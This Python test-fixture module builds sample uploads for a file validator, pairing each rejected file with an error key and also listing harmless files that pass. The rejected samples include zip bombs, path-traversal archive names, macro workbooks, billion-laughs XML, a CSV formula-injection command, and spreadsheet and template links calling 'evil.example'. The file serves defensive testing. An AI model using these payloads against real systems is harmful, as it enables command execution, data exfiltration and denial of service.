"""Files that no door takes, each with the key of its refusal, and files like them that every door takes."""

import io
import zipfile
from collections.abc import Mapping
from functools import cache

from openpyxl import Workbook

_VBA = b"\xcc\x61\x5e\x00\x00\xff macros"
_REL = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
_OUT = b'<Relationship Id="r9" Type="http://x/%s" Target="http://evil.example/a" TargetMode="External"/>'
_LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def book(*rows: tuple[object, ...]) -> bytes:
    """A workbook of one sheet."""
    made, out = Workbook(), io.BytesIO()
    sheet = made.active
    assert sheet is not None
    for row in rows or (("a", 1),):
        sheet.append(row)
    made.save(out)
    return out.getvalue()


def archive(members: Mapping[str, bytes]) -> bytes:
    """A compressed archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return out.getvalue()


def with_parts(whole: bytes, **parts: bytes) -> bytes:
    """A workbook with parts more, or others in their place; of a name `__` is `/`, and `_0` a dot."""
    with zipfile.ZipFile(io.BytesIO(whole)) as packed:
        members = {name: packed.read(name) for name in packed.namelist()}
    return archive({**members, **{name.replace("__", "/").replace("_0", "."): part for name, part in parts.items()}})


def _word() -> bytes:
    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"})


def _encrypted() -> bytes:
    packed = bytearray(archive({"a.txt": b"text"}))
    packed[6] |= 1  # the flag in the member's own head, then in the list at the end
    packed[packed.index(b"PK\x01\x02") + 8] |= 1
    return bytes(packed)


def _twice() -> bytes:
    packed = archive({"a.txt": b"one", "b.txt": b"two"})
    return packed.replace(b"b.txt", b"a.txt")


@cache
def refused() -> dict[str, tuple[str, bytes, str]]:
    """What it is: its name, its content, and the key of the sentence that refuses it."""
    formula = b'<worksheet><sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example")</f></c></row></sheetData></worksheet>'
    whole = book()
    return {
        "program": ("tool.exe", b"MZ\x90", "file_kinds"),
        "program with another name": ("report.pdf", b"MZ\x90" + bytes(100), "upload_kind"),
        "page with another name": ("photo.jpg", b"<html><script>1</script>", "upload_kind"),
        "no table": ("rows.csv", b"\x00\x01\x02\xff", "upload_kind"),
        "archive as a table": ("rows.csv", archive({"a.txt": b"a"}), "upload_kind"),
        "nothing": ("empty.pdf", b"", "upload_empty"),
        "too large": ("large.pdf", b"%PDF-1" + bytes(15_000_000), "file_too_large"),
        "bomb": ("bomb.zip", archive({"a.txt": bytes(5_000_000)}), "upload_unpacked"),
        "bomb of many": ("many.zip", archive({f"{number}.txt": b"" for number in range(2_001)}), "upload_many"),
        "bomb in a workbook": ("bomb.xlsx", with_parts(whole, xl__media_0xml=bytes(5_000_000)), "upload_unpacked"),
        "archive in an archive": ("nested.zip", archive({"a.zip": archive({"a.txt": b"a"})}), "upload_nested"),
        "archive behind a name": ("nested.zip", archive({"a.dat": b"Rar!\x1a\x07"}), "upload_nested"),
        "page in an archive": ("a.zip", archive({"a.html": b"<html>"}), "upload_member"),
        "macros in an archive": (
            "a.zip",
            archive({"a.xlsx": with_parts(whole, xl__vbaProject_0bin=_VBA)}),
            "upload_macros",
        ),
        "way out": ("a.zip", archive({"../../etc/a.txt": b"a"}), "upload_path"),
        "way out of Windows": ("a.zip", archive({"C:\\a.txt": b"a"}), "upload_path"),
        "one name twice": ("a.zip", _twice(), "upload_path"),
        "encrypted": ("a.zip", _encrypted(), "upload_encrypted"),
        "encrypted workbook": ("a.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), "upload_encrypted"),
        "macros": ("a.xlsx", with_parts(whole, xl__vbaProject_0bin=_VBA), "upload_macros"),
        "macros of before": ("a.xlsx", with_parts(whole, xl__macrosheets__sheet1_0xml=b"<a/>"), "upload_macros"),
        "macros by type": (
            "a.xlsx",
            with_parts(
                whole, **{"[Content_Types]_0xml": b'<Types><Default ContentType="x.macroEnabled.main+xml"/></Types>'}
            ),
            "upload_macros",
        ),
        "old macros": ("a.xls", OLE + "_VBA_PROJECT".encode("utf-16-le"), "upload_macros"),
        "link to a file": ("a.xlsx", with_parts(whole, xl__externalLinks__externalLink1_0xml=b"<a/>"), "upload_links"),
        "data connection": ("a.xlsx", with_parts(whole, xl__connections_0xml=b"<connections/>"), "upload_links"),
        "template from elsewhere": (
            "a.docx",
            with_parts(_word(), word___rels__settings_0xml_0rels=_REL % (_OUT % b"attachedTemplate")),
            "upload_links",
        ),
        "formula that calls out": ("a.xlsx", with_parts(whole, xl__worksheets__sheet1_0xml=formula), "upload_links"),
        "file inside": ("a.docx", with_parts(_word(), word__embeddings__a_0bin=OLE), "upload_nested"),
        "program inside": ("a.xlsx", with_parts(whole, xl__media__a_0png=b"MZ\x90"), "upload_nested"),
        "laughs": ("a.xlsx", with_parts(whole, xl__workbook_0xml=_LAUGHS), "upload_entities"),
        "laughs in another width": (
            "a.xlsx",
            with_parts(whole, xl__styles_0xml=_LAUGHS.decode().replace("?>", ' encoding="utf-16"?>').encode("utf-16")),
            "upload_entities",
        ),
        "formulas in a table": ("a.csv", b"a,b\n1,\"=cmd|'/C calc'!A0\"\n", "upload_formula"),
        "formulas in a wide table": ("a.csv", "a;b\n1;＝1+1\n".encode("gb18030"), "upload_formula"),
        "half a workbook": ("a.xlsx", whole[: len(whole) // 2], "upload_kind"),
        "letter as a workbook": ("a.xlsx", _word(), "upload_kind"),
    }


def taken() -> dict[str, bytes]:
    """Documents as people send them."""
    link = with_parts(book(), xl__worksheets___rels__sheet1_0xml_0rels=_REL % (_OUT % b"relationships/hyperlink"))
    return {
        "report.pdf": b"%PDF-1.7\n",
        "scan.png": b"\x89PNG\r\n\x1a\n",
        "scan.JPG": b"\xff\xd8\xff\xe0",
        "rows.csv": "日期,数量\n2025-01-01,-5\n2025-01-02,+86 10-1234\n－,——\n".encode("gb18030"),
        "note.txt": "按=号计算".encode(),
        "book.xlsx": book(("a", "=1+1"), ("b", 2)),
        "link.xlsx": link,
        "letter.docx": _word(),
        "old.xls": OLE,
        "all.zip": archive({"a/report.pdf": b"%PDF-1.7\n", "b.xlsx": book()}),
    }
